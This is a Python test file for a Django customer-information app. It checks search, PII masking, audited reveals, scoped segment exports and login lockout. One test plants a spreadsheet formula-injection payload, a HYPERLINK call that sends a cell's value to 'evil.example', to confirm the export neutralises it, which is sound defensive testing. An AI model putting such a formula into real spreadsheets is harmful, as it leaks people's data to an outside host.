"""Customer pool pages (cunxin.pool.views): search, filters, htmx fragments, masking,
the 360 profile, reveals, segments and their export, and the sign-in throttle.

Who may open which page is tested in tests/test_role_matrix.py; this file tests what the
pages do. Plain ID numbers and phones of the world are in `world.plain`.
"""

from __future__ import annotations

import io
import re

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth.hashers import make_password
from django.core.exceptions import PermissionDenied
from django.db import transaction
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone

from cunxin.audit.models import AuditEvent
from cunxin.datapool.sources import SOURCES
from cunxin.org.models import Staff
from cunxin.pool import actions, views
from cunxin.pool.labels import SOURCE_LABELS, member_class, member_color
from cunxin.pool.models import AccessLog, Person, RiskFlag, Segment
from cunxin.project.templatetags.cunxin import fen_as_yuan

FAST_HASHER = ["django.contrib.auth.hashers.MD5PasswordHasher"]
ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}  # messages asserted in their source language


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """The conftest world built once for this module (inside a transaction that is rolled
    back at the end); each test runs in a savepoint of it (pytest-django's `db`)."""
    from world import make_world

    with django_db_blocker.unblock(), override_settings(PASSWORD_HASHERS=FAST_HASHER):
        make_password("warm-up")
        with transaction.atomic():
            yield make_world()
            transaction.set_rollback(True)


@pytest.fixture
def as_user(client, world, db):
    def sign_in(key: str) -> Client:
        client.force_login(world.users[key])
        return client

    return sign_in


def village_url(code: str) -> str:
    return reverse("pool:village", args=[code])


def found(response) -> list[str]:
    """uids on the result page (persons or households)."""
    return [item.uid for item in response.context["page"].object_list]


def assert_no_plain_values(world, html: str, where: str) -> None:
    for key, (id_number, phone) in world.plain.items():
        assert id_number not in html, f"{key}'s full ID number on {where}"
        assert phone not in html, f"{key}'s full phone on {where}"


# --- search ----------------------------------------------------------------------------------


def test_it_searches_by_name(as_user):
    response = as_user("hq_admin").post(village_url("VA1"), {"q": "李芳", "show": "persons"})

    assert response.status_code == 200
    assert found(response) == ["Pa12"]
    assert response.context["matched"] == "name"


def test_it_says_in_chinese_how_a_search_matched(as_user):
    response = as_user("hq_admin").post(village_url("VA1"), {"q": "李芳", "show": "persons"})

    html = response.content.decode()
    assert "按姓名匹配" in html
    assert "张伟户" in html  # the member's household, one sentence
    assert "'s household" not in html


def test_it_searches_by_full_id_number_through_the_blind_index(as_user, world):
    response = as_user("hq_admin").post(
        village_url("VA1"), {"q": world.plain["a12"][0], "show": "persons"}
    )

    assert found(response) == ["Pa12"]
    assert response.context["matched"] == "id"


def test_it_searches_by_full_phone_through_the_blind_index(as_user, world):
    response = as_user("hq_admin").post(
        village_url("VA1"), {"q": world.plain["a11"][1], "show": "persons"}
    )

    assert found(response) == ["Pa11"]
    assert response.context["matched"] == "phone"


def test_it_finds_households_by_a_member_id_number(as_user, world):
    response = as_user("hq_admin").post(village_url("VA1"), {"q": world.plain["a12"][0]})

    assert found(response) == ["Ha1"]


def test_it_finds_nobody_in_another_village_by_full_id(as_user, world):
    # Pb11 is a 张伟 too, in VB1: searching VA1 for Pb11's ID finds nothing
    response = as_user("hq_admin").post(
        village_url("VA1"), {"q": world.plain["b11"][0], "show": "persons"}
    )

    assert found(response) == []


def test_it_finds_nobody_outside_the_users_grids(as_user, world):
    # Pa31 lives in VA2 but in grid GA2x, which is not cm_a's
    client = as_user("cm_a")
    by_id = client.post(village_url("VA2"), {"q": world.plain["a31"][0], "show": "persons"})
    by_name = client.post(village_url("VA2"), {"q": "赵敏", "show": "persons"})

    assert found(by_id) == []
    assert found(by_name) == []


def test_it_never_reads_the_search_from_the_query_string(as_user, world):
    url = village_url("VA1") + "?" + f"q={world.plain['a12'][0]}&show=persons"

    response = as_user("hq_admin").get(url)

    assert response.context["q"] == ""
    assert sorted(found(response)) == ["Pa11", "Pa12"]  # unfiltered


def test_it_searches_by_the_last_four_digits(as_user, world):
    tail = world.plain["a12"][1][-4:]  # 0012

    response = as_user("hq_admin").post(village_url("VA1"), {"q": tail, "show": "persons"})

    assert found(response) == ["Pa12"]
    assert response.context["matched"] == "tail"


def test_it_finds_an_18_digit_id_by_its_legacy_15_digit_form(as_user, world):
    id18 = world.plain["a12"][0]
    id15 = id18[:6] + id18[8:17]  # no century, no check character

    response = as_user("hq_admin").post(village_url("VA1"), {"q": id15, "show": "persons"})

    assert len(id15) == 15
    assert found(response) == ["Pa12"]
    assert response.context["matched"] == "id"


def full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


@pytest.mark.parametrize(("plain", "how"), [(0, "id"), (1, "phone")])
def test_it_reads_full_width_digits_as_ascii(as_user, world, plain, how):
    value = world.plain["a12"][plain]
    q = full_width(value)
    assert q != value

    response = as_user("hq_admin").post(village_url("VA1"), {"q": f"　{q}　", "show": "persons"})

    assert found(response) == ["Pa12"]
    assert response.context["matched"] == how


def test_it_reads_full_width_masked_values_and_tails(as_user, world):
    client = as_user("hq_admin")
    masked = client.post(village_url("VA1"), {"q": full_width(world.persons["a11"].phone_masked), "show": "persons"})  # fmt: skip
    tail = client.post(village_url("VA1"), {"q": full_width("0012"), "show": "persons"})

    assert (found(masked), masked.context["matched"]) == (["Pa11"], "masked")
    assert (found(tail), tail.context["matched"]) == (["Pa12"], "tail")


@pytest.mark.parametrize("field", ["id_masked", "phone_masked"])
def test_it_searches_by_a_masked_value(as_user, world, field):
    masked = getattr(world.persons["a11"], field)

    response = as_user("hq_admin").post(village_url("VA1"), {"q": masked, "show": "persons"})

    assert "*" in masked
    assert found(response) == ["Pa11"]
    assert response.context["matched"] == "masked"


# --- filters and pages -----------------------------------------------------------------------


def test_it_filters_by_tag(as_user):
    client = as_user("hq_admin")

    grey = client.get(village_url("VA1"), {"tag": "risk:灰名单", "show": "persons"})
    black = client.get(village_url("VB1"), {"tag": "risk:黑名单"})
    none = client.get(village_url("VA2"), {"tag": "risk:黑名单"})

    assert found(grey) == ["Pa12"]
    assert found(black) == ["Hb1"]
    assert found(none) == []


def test_it_filters_by_list_colour(as_user):
    client = as_user("hq_admin")

    grey = client.get(village_url("VA1"), {"color": "grey", "show": "persons"})
    white = client.get(village_url("VA1"), {"color": "white", "show": "persons"})
    households = client.get(village_url("VA1"), {"color": "grey"})
    black_in_va2 = client.get(village_url("VA2"), {"color": "black"})

    assert found(grey) == ["Pa12"]
    assert found(white) == ["Pa11"]
    assert found(households) == ["Ha1"]
    assert found(black_in_va2) == []


def test_it_pages_the_results(as_user, monkeypatch):
    monkeypatch.setattr(views, "PAGE_SIZE", 1)
    client = as_user("hq_admin")

    first = client.get(village_url("VA2"))
    second = client.post(village_url("VA2"), {"page": "2"})  # the pager form posts

    assert first.context["page"].paginator.num_pages == 2
    assert found(first) == ["Ha2"]
    assert found(second) == ["Ha3"]
    assert 'name="page" value="2"' in first.content.decode()


def test_it_returns_the_fragment_to_htmx_and_the_page_otherwise(as_user):
    client = as_user("hq_admin")

    fragment = client.post(village_url("VA1"), {"q": "张伟"}, HTTP_HX_REQUEST="true")
    page = client.post(village_url("VA1"), {"q": "张伟"})

    assert "<html" not in fragment.content.decode()
    assert 'data-testid="result-count"' in fragment.content.decode()
    assert "<html" in page.content.decode()
    for response in (fragment, page):
        assert "HX-Request" in response["Vary"]


def test_it_counts_only_the_households_in_scope_per_village(as_user):
    response = as_user("cm_a").get(reverse("pool:villages"))

    assert {village.code: n for village, n in response.context["rows"]} == {"VA1": 1, "VA2": 1}


def test_it_shows_cm_a_only_the_households_of_its_grid_in_a_shared_village(as_user):
    response = as_user("cm_a").get(village_url("VA2"))

    assert found(response) == ["Ha2"]
    assert "赵敏" not in response.content.decode()


# --- households and the 360 profile -----------------------------------------------------------


def test_it_lists_every_member_in_member_index_order_with_distinct_colours(as_user, world):
    # make member_index disagree with the order of creation
    Person.objects.filter(uid="Pa11").update(member_index=2)

    response = as_user("cm_a").get(reverse("pool:household", args=["Ha1"]))

    html = response.content.decode()
    assert [m.uid for m in response.context["members"]] == ["Pa12", "Pa11"]
    cards = html[html.index('data-testid="member"') :]
    assert cards.index("李芳") < cards.index("张伟")
    colours = [member_color(1), member_color(2)]
    assert colours[0] != colours[1]
    css = (settings.BASE_DIR / "project/static/cunxin/app.css").read_text(encoding="utf-8")
    for n, colour in ((1, colours[0]), (2, colours[1])):
        assert f"card member mc{member_class(n)}" in html  # no inline style (CSP)
        assert f".mc{member_class(n)} {{ --member:{colour}; }}" in css
    for key in ("a11", "a12"):
        assert world.persons[key].id_masked in html
        assert world.persons[key].phone_masked in html


def test_it_never_shows_a_full_id_or_phone_on_a_page(as_user, world):
    client = as_user("hq_admin")
    segment = Segment.objects.create(
        name="全部", tags=["age:31-45岁"], created_by=world.users["hq_admin"]
    )
    urls = [reverse("pool:villages"), reverse("pool:segments")]
    urls += [reverse("pool:segment", args=[segment.pk])]
    urls += [reverse("pool:household", args=[h.uid]) for h in world.households.values()]
    urls += [reverse("pool:person", args=[p.uid]) for p in world.persons.values()]
    for code in world.villages:
        urls += [village_url(code), village_url(code) + "?show=persons"]

    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_no_plain_values(world, response.content.decode(), url)
    for code in world.villages:
        fragment = client.post(village_url(code), {"show": "persons"}, HTTP_HX_REQUEST="true")
        assert found(fragment), code
        assert_no_plain_values(world, fragment.content.decode(), f"{code} fragment")


def test_it_shows_provenance_on_the_360_page(as_user):
    html = as_user("cm_a").get(reverse("pool:person", args=["Pa11"])).content.decode()

    assert "网格化 · 2026-07-10" in html  # name, from the grid data
    assert "客户信息 · 2026-05-01" in html  # phone, from the customer information


def test_it_has_a_label_for_every_data_source():
    assert set(SOURCE_LABELS) == {source.name for source in SOURCES}


def test_it_names_lists_and_tag_families_on_the_360_page(as_user, world):
    RiskFlag.objects.create(
        person=world.persons["a12"], flag="possible_court_defaulter", record_key="k1",
        reason="未履行判决", content_hash="x",
    )  # fmt: skip

    html = as_user("cm_a").get(reverse("pool:person", args=["Pa12"])).content.decode()

    assert "疑似失信被执行人 · 未履行判决" in html
    assert ">possible_court_defaulter" not in html
    assert '<span class="muted">风险名单</span> <span class="badge">灰名单</span>' in html
    assert '<span class="muted">年龄</span>' in html
    assert ">risk<" not in html and ">age<" not in html


def test_it_shows_amounts_with_their_unit_and_unknown_ones_without(as_user):
    html = as_user("cm_a").get(reverse("pool:person", args=["Pa11"])).content.decode()

    assert "<dd>12,345.67 元 " in html  # deposits
    assert "<dd>—</dd>" in html  # household income: unknown
    assert "— 元" not in html
    assert fen_as_yuan(None) == "—"


def test_it_draws_the_relationship_graph_masking_relatives_outside_scope(as_user):
    html = as_user("cm_a").get(reverse("pool:person", args=["Pa11"])).content.decode()

    svg = html[html.index("<svg") : html.index("</svg>")]
    assert f'href="{reverse("pool:person", args=["Pa12"])}"' in svg  # spouse, in scope
    assert "李芳" in svg
    assert 'data-key="Pb11"' in svg  # sibling in branch B: shown ...
    assert reverse("pool:person", args=["Pb11"]) not in html  # ... without a link
    pb11 = svg[svg.index('data-key="Pb11"') :]
    assert re.search(r">张\*</text>", pb11[: pb11.index("</g>")])  # ... and a masked name


def test_it_links_and_names_relatives_inside_scope(as_user):
    html = as_user("hq_admin").get(reverse("pool:person", args=["Pa11"])).content.decode()

    assert f'href="{reverse("pool:person", args=["Pb11"])}"' in html
    assert "张*" not in html


# --- reveal ------------------------------------------------------------------------------------


def reveal_url(uid: str, field: str) -> str:
    return reverse("pool:reveal", args=[uid, field])


@pytest.mark.parametrize("reason", ["", "because", None])
def test_it_refuses_a_reveal_without_a_valid_reason(as_user, reason):
    data = {} if reason is None else {"reason": reason}

    response = as_user("cm_a").post(reveal_url("Pa11", "phone"), data, **ENGLISH)

    assert response.status_code == 400
    assert "Choose a reason." in response.content.decode()
    assert not AccessLog.objects.exists()


@pytest.mark.parametrize(("field", "plain"), [("id_number", 0), ("phone", 1)])
def test_it_reveals_the_full_value_and_logs_it_once(as_user, world, field, plain):
    response = as_user("cm_a").post(
        reveal_url("Pa12", field), {"reason": "visit", "note": "上门核实"}
    )

    assert response.status_code == 200
    assert world.plain["a12"][plain] in response.content.decode()
    log = AccessLog.objects.get()
    assert (log.user, log.person_id, log.field, log.kind) == (
        world.users["cm_a"], "Pa12", field, AccessLog.Kind.REVEAL,
    )  # fmt: skip
    assert log.reason.endswith("上门核实")


@pytest.mark.parametrize(("key", "person"), [("cm_a", "a31"), ("cm_a", "b11"), ("bm_b", "a11")])
def test_the_reveal_action_refuses_a_person_outside_the_actors_scope(world, db, key, person):
    # what a view answers with 404, the action refuses on its own (an API, a script)
    with pytest.raises(PermissionDenied):
        actions.do_reveal(world.users[key], world.persons[person], "phone", "visit")

    assert not AccessLog.objects.exists()


def test_the_reveal_action_refuses_a_retired_person(world, db):
    person = world.persons["a11"]
    Person.objects.filter(pk=person.pk).update(retired_at=timezone.now())

    with pytest.raises(PermissionDenied):
        actions.do_reveal(world.users["hq_admin"], person, "phone", "visit")
    assert not AccessLog.objects.exists()


def test_the_reveal_action_reveals_within_scope(world, db):
    value = actions.do_reveal(world.users["cm_a"], world.persons["a21"], "phone", "visit")  # GA2

    assert value == world.plain["a21"][1]
    assert AccessLog.objects.get().person_id == "Pa21"


def test_it_forbids_the_analyst_to_reveal(as_user, world):
    response = as_user("hq_analyst").post(reveal_url("Pa11", "phone"), {"reason": "visit"})

    assert response.status_code == 403
    assert world.plain["a11"][1] not in response.content.decode()
    assert not AccessLog.objects.exists()


def test_it_needs_the_csrf_token_that_htmx_sends_from_the_page(world, db):
    client = Client(enforce_csrf_checks=True)
    client.force_login(world.users["cm_a"])
    page = client.get(reverse("pool:person", args=["Pa11"])).content.decode()
    token = re.search(r"hx-headers='\{\"X-CSRFToken\": \"([^\"]+)\"\}'", page).group(1)

    without = client.post(reveal_url("Pa11", "phone"), {"reason": "visit"})
    wrong = client.post(reveal_url("Pa11", "phone"), {"reason": "visit"}, HTTP_X_CSRFTOKEN="x" * 64)  # fmt: skip
    with_token = client.post(
        reveal_url("Pa11", "phone"), {"reason": "visit"}, HTTP_X_CSRFTOKEN=token,
        HTTP_HX_REQUEST="true",
    )  # fmt: skip

    assert without.status_code == 403
    assert wrong.status_code == 403
    assert with_token.status_code == 200
    assert world.plain["a11"][1] in with_token.content.decode()
    assert AccessLog.objects.count() == 1


# --- caching -----------------------------------------------------------------------------------


def test_it_forbids_caching_any_page_for_a_signed_in_user(as_user, world):
    client = as_user("hq_admin")
    segment = Segment.objects.create(name="黑", colors=["black"], created_by=world.users["hq_admin"])  # fmt: skip
    urls = [
        reverse("home"), reverse("pool:villages"), village_url("VA1"),
        reverse("pool:household", args=["Ha1"]), reverse("pool:person", args=["Pa11"]),
        reverse("pool:photo", args=["Pa11"]), reveal_url("Pa11", "phone"),
        reverse("pool:segments"), reverse("pool:segment", args=[segment.pk]),
        reverse("pool:segment_export", args=[segment.pk]), reverse("access_log"),
        reverse("pool:publish_runs"), reverse("audit"), reverse("org:staff_list"),
        reverse("org:staff", args=[world.users["cm_a"].staff.pk]),
    ]  # fmt: skip

    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url
    revealed = client.post(reveal_url("Pa11", "phone"), {"reason": "visit"})
    assert "no-store" in revealed["Cache-Control"]
    outside = as_user("cm_a").get(reverse("pool:household", args=["Ha3"]))
    assert (outside.status_code, "no-store" in outside["Cache-Control"]) == (404, True)


# --- segments ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"name": " ", "colors": ["black"]}, "Give the segment a name."),
        ({"name": "空"}, "A segment needs at least one tag or list colour."),
        ({"name": "坏标签", "tags": ["黑名单"]}, "A tag is written family:tag."),
        ({"name": "坏颜色", "colors": ["red"]}, "Unknown list colour."),
    ],
    ids=["no-name", "no-filter", "bad-tag", "bad-colour"],
)
def test_it_refuses_an_invalid_segment(as_user, data, message):
    response = as_user("cm_a").post(reverse("pool:segments"), data, **ENGLISH)

    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Segment.objects.exists()


def test_it_creates_a_segment_and_audits_it(as_user, world):
    response = as_user("cm_a").post(
        reverse("pool:segments"),
        {"name": " 青年灰名单 ", "tags": ["risk:灰名单", "age:31-45岁"], "colors": ["grey"]},
    )

    segment = Segment.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("pool:segment", args=[segment.pk])
    assert (segment.name, segment.tags, segment.colors) == (
        "青年灰名单", ["age:31-45岁", "risk:灰名单"], ["grey"],
    )  # fmt: skip
    event = AuditEvent.objects.get(action="pool.segment.create")
    assert event.actor == world.users["cm_a"]


def test_it_redirects_htmx_to_the_new_segment(as_user):
    response = as_user("cm_a").post(
        reverse("pool:segments"), {"name": "黑", "colors": ["black"]}, HTTP_HX_REQUEST="true"
    )

    assert response.status_code == 200
    assert response["HX-Redirect"] == reverse("pool:segment", args=[Segment.objects.get().pk])


@pytest.fixture
def everyone_segment(world, db) -> Segment:
    """All five persons of the world match it."""
    return Segment.objects.create(
        name="31-45岁", tags=["age:31-45岁"], created_by=world.users["hq_admin"]
    )


def sizes(response) -> dict[str, int]:
    return {village.code: n for village, n in response.context["rows"]}


def test_it_counts_a_segment_only_within_the_viewers_scope(as_user, everyone_segment):
    url = reverse("pool:segment", args=[everyone_segment.pk])

    hq = as_user("hq_admin").get(url)
    cm = as_user("cm_a").get(url)
    bm = as_user("bm_b").get(url)

    assert (sizes(hq), hq.context["total"]) == ({"VA1": 2, "VA2": 2, "VB1": 1}, 5)
    assert (sizes(cm), cm.context["total"]) == ({"VA1": 2, "VA2": 1}, 3)  # not Pa31 (GA2x)
    assert (sizes(bm), bm.context["total"]) == ({"VB1": 1}, 1)


def read_sheet(response) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    return list(book.worksheets[0].iter_rows(values_only=True))


def test_it_exports_the_segment_masked_within_scope_and_logs_it(as_user, world, everyone_segment):
    response = as_user("cm_a").get(reverse("pool:segment_export", args=[everyone_segment.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    from urllib.parse import unquote

    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''")
    assert unquote(disposition.split("''", 1)[1]) == f"分群{everyone_segment.pk}.xlsx"
    header, *rows = read_sheet(response)
    names = [row[header.index("姓名")] for row in rows]
    assert sorted(names) == sorted(["张伟", "李芳", "王强"])  # cm_a's three, not 赵敏 (GA2x)
    cells = " ".join(str(c) for row in rows for c in row)
    assert_no_plain_values(world, cells, "the export")
    ids = {row[header.index("身份证号（脱敏）")] for row in rows}
    assert ids == {world.persons[k].id_masked for k in ("a11", "a12", "a21")}
    log = AccessLog.objects.get()
    assert (log.user, log.kind, log.person) == (world.users["cm_a"], AccessLog.Kind.EXPORT, None)
    assert (log.export_kind, log.row_count, log.object_id) == (
        "segment",
        3,
        str(everyone_segment.pk),
    )


def test_it_exports_text_that_looks_like_a_formula_or_a_link_as_text(as_user, world):
    formula = '=HYPERLINK("http://evil.example/?d="&C1,"点击查看")'
    link = "http://x.cn/"  # relation_to_head holds 16 characters
    Person.objects.filter(uid="Pb11").update(name=formula, relation_to_head=link)
    segment = Segment.objects.create(name="黑", colors=["black"], created_by=world.users["hq_admin"])  # fmt: skip

    response = as_user("hq_admin").get(reverse("pool:segment_export", args=[segment.pk]))

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=header.index("姓名") + 1)
    relation = sheet.cell(row=2, column=header.index("与户主关系") + 1)
    assert (name.value, name.data_type) == (formula, "s")  # a string, not a formula ("f")
    assert (relation.value, relation.data_type, relation.hyperlink) == (link, "s", None)


def test_the_access_log_tells_what_was_exported_and_revealed(as_user, world, everyone_segment):
    client = as_user("cm_a")
    client.get(reverse("pool:segment_export", args=[everyone_segment.pk]))
    client.post(reveal_url("Pa11", "phone"), {"reason": "visit"})

    html = client.get(reverse("access_log")).content.decode()

    link = reverse("pool:segment", args=[everyone_segment.pk])
    assert f'<a href="{link}" data-testid="export">分群导出：31-45岁，3 条记录</a>' in html
    assert ">脱敏数据<" in html and ">手机号<" in html
    assert ">masked<" not in html and ">phone<" not in html
    everyone_segment.delete()
    html = client.get(reverse("access_log")).content.decode()
    assert "分群导出：31-45岁，3 条记录 （已删除）" in html and f'href="{link}"' not in html


def test_an_export_row_is_typed_and_chained(as_user, world, everyone_segment):
    """What was exported is fields of the row (no machine text parsed back), and the
    row's hash covers them: a changed subject breaks the access log's chain."""
    from cunxin.pool.models import verify_access_log

    as_user("cm_a").get(reverse("pool:segment_export", args=[everyone_segment.pk]))
    row = AccessLog.objects.get(kind=AccessLog.Kind.EXPORT)
    assert (row.export_kind, row.row_count, row.subject, row.object_type, row.object_id) == (
        "segment", 3, "31-45岁", "pool.segment", str(everyone_segment.pk),
    )  # fmt: skip
    assert row.detail == "" and verify_access_log().ok
    assert row.chain_payload()[-5:] == ["segment", 3, "31-45岁", "pool.segment", str(everyone_segment.pk)]  # fmt: skip
    with pytest.raises(ValueError):
        actions.do_log_export(
            world.users["cm_a"], actions.Export("bogus", 1, "x", everyone_segment)
        )


def log_rows(world) -> None:
    """A reveal by cm_a (branch A), cm_b (branch B) and hq_admin (no branch)."""
    for key, person in (("cm_a", "a11"), ("cm_b", "b11"), ("hq_admin", "a31")):
        AccessLog.objects.create(
            user=world.users[key], kind=AccessLog.Kind.REVEAL, person=world.persons[person],
            field="phone", reason="visit",
        )  # fmt: skip


@pytest.mark.parametrize(
    ("key", "expected"),
    [
        ("hq_admin", {"cm_a", "cm_b", "hq_admin"}),
        ("hq_analyst", {"cm_a", "cm_b", "hq_admin"}),
        ("bm_a", {"cm_a"}),
        ("bm_b", {"cm_b"}),
        ("cm_a", {"cm_a"}),
        ("cm_b", {"cm_b"}),
    ],
)
def test_the_access_log_shows_each_role_what_its_scope_allows(as_user, world, key, expected):
    log_rows(world)

    response = as_user(key).get(reverse("access_log"))

    assert {row.user.username for row in response.context["page"].object_list} == expected


def test_a_branch_manager_without_a_branch_sees_no_access_log_rows(as_user, world):
    log_rows(world)
    Staff.objects.filter(user=world.users["bm_a"]).update(branch=None)

    response = as_user("bm_a").get(reverse("access_log"))

    # not the rows of every user without a branch (HQ's): branch_id=None is IS NULL
    assert list(response.context["page"].object_list) == []


@pytest.mark.parametrize(
    "name", ["risk:黑名单 [2026] a/b?", "'" + "😀" * 30 + "'"], ids=["forbidden-chars", "long"]
)
def test_it_exports_a_segment_whose_name_is_no_valid_sheet_name(as_user, world, name):
    segment = Segment.objects.create(
        name=name, colors=["black"], created_by=world.users["hq_admin"]
    )

    response = as_user("hq_admin").get(reverse("pool:segment_export", args=[segment.pk]))

    assert response.status_code == 200
    assert len(read_sheet(response)) == 2  # header and Pb11


def test_it_lets_the_creator_delete_a_segment(as_user, world):
    segment = Segment.objects.create(name="黑", colors=["black"], created_by=world.users["cm_a"])

    response = as_user("cm_a").post(reverse("pool:segment_delete", args=[segment.pk]))

    assert response.status_code == 302
    assert not Segment.objects.exists()
    assert AuditEvent.objects.filter(action="pool.segment.delete").count() == 1


# --- sign-in throttle --------------------------------------------------------------------------


def sign_in(client: Client, username: str, password: str):
    return client.post(reverse("login"), {"username": username, "password": password})


def test_it_signs_in_with_the_right_password(client, world, db):
    from world import PASSWORD

    response = sign_in(client, "cm_a", PASSWORD)

    assert response.status_code == 302
    assert "_auth_user_id" in client.session


def test_it_locks_a_user_out_after_five_wrong_passwords(client, world, db):
    from world import PASSWORD

    for attempt in range(1, 6):
        failed = sign_in(client, "cm_a", "wrong-password")
        # the form again; the fifth failure already answers with the lockout page
        assert failed.status_code == (200 if attempt < 5 else 429)
        assert "_auth_user_id" not in client.session

    locked = sign_in(client, "cm_a", PASSWORD)

    assert locked.status_code == 429
    assert "_auth_user_id" not in client.session
    assert "<html" in locked.content.decode()  # the lockout page, not a bare error
    # the lock is on this user (from this address), not on everyone behind the address
    assert sign_in(Client(), "cm_b", PASSWORD).status_code == 302


def test_the_360_header_shows_a_risk_list_only_when_there_is_one(as_user):
    """白名单 in the header (the pool's "on no risk list") read as an evaluation verdict next
    to the app's own evaluation: the header shows the grey and black lists only."""
    plain = as_user("cm_a").get(reverse("pool:person", args=["Pa11"])).content.decode()
    grey = as_user("cm_a").get(reverse("pool:person", args=["Pa12"])).content.decode()
    assert 'data-testid="list-badge"' not in plain
    assert 'data-testid="list-badge">灰名单<' in grey
